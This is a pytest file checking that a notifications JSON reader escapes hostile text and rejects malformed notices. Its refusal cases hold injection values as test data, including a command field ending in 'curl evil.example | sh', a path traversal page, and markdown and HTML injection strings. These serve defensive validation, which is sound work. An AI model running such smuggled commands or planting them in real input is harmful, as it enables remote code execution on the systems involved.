"""What one machine judged and another tells: taken over whole, or refused whole."""

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from made_up_nights import HOSTILE, hostile_course, judge_nights

from perf.model.errors import InputError
from reports.notifications import notifications_file
from reports.notifications.issue_plan import render_issue
from reports.notifications.notifications_file import read_notifications, write_notifications

NOTICES = judge_nights(20).notices
KNOWN = frozenset({"0123456789", "abcdef0123"})


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "notices.json"
    path.write_bytes(write_notifications(NOTICES, KNOWN))
    return path


def test_comes_over_whole(file: Path) -> None:
    found = read_notifications(file)
    assert found.notices == NOTICES
    assert found.notices
    assert found.known == KNOWN


def test_hostile_text_comes_over_and_is_escaped(tmp_path: Path) -> None:
    path = tmp_path / "notices.json"
    hostile = judge_nights(20, (hostile_course(),)).notices
    path.write_bytes(write_notifications([replace(one, advice=HOSTILE) for one in hostile], KNOWN))
    (found,) = read_notifications(path).notices
    reported = render_issue(found, scope="nightly")
    assert "<script>" not in reported
    assert "@everyone" not in reported


def spoil(key: str, value: Any) -> Callable[[dict[str, Any]], None]:  # noqa: ANN401  anything that JSON has
    def act(content: dict[str, Any]) -> None:
        content["notices"][0][key] = value

    return act


@pytest.mark.parametrize(
    ("spoiling", "wrong"),
    [
        (spoil("name", "x --> <img>"), "notices.0: name"),
        (spoil("name", "x\n"), "notices.0: name"),
        (spoil("handles", ["0123456789", "x -->"]), "notices.0: handles"),
        (spoil("page", "../../evil.html"), "notices.0: page"),
        (spoil("page", "incidents/x.html) [y](https://evil.example"), "notices.0: page"),
        (spoil("page", "//evil.example"), "notices.0: page"),
        (spoil("command", "knickpoint triage add x; curl evil.example | sh"), "notices.0: command"),
        (spoil("outcome", {"kind": "bad", "symbol": "<", "word": "@all"}), "notices.0: outcome"),
        (spoil("standing", "fine"), "notices.0.standing"),
        (spoil("steps", []), "notices.0: steps"),
        (spoil("title", 7), "notices.0.title"),
        (lambda content: content.update(known=["x"]), "known"),
        (lambda content: content.update(format=2), "format"),
        (lambda content: content.update(more=1), "more"),
        (lambda content: content.update(notices=501 * content["notices"]), "501 notices"),
    ],
)
def test_is_refused_as_a_whole(
    file: Path, spoiling: Callable[[dict[str, Any]], None], wrong: str
) -> None:
    content = json.loads(file.read_text())
    spoiling(content)
    file.write_text(json.dumps(content))
    with pytest.raises(InputError) as refused:
        read_notifications(file)
    assert any(wrong in problem for problem in refused.value.problems), refused.value


def test_what_is_too_large_or_no_json_is_refused(
    file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "other").write_text("[" * 100_000)
    with pytest.raises(InputError):
        read_notifications(tmp_path / "other")
    with pytest.raises(InputError, match="cannot be read"):
        read_notifications(tmp_path)
    monkeypatch.setattr(notifications_file, "MOST_BYTES", 100)
    with pytest.raises(InputError, match="at most 100 are read"):
        read_notifications(file)
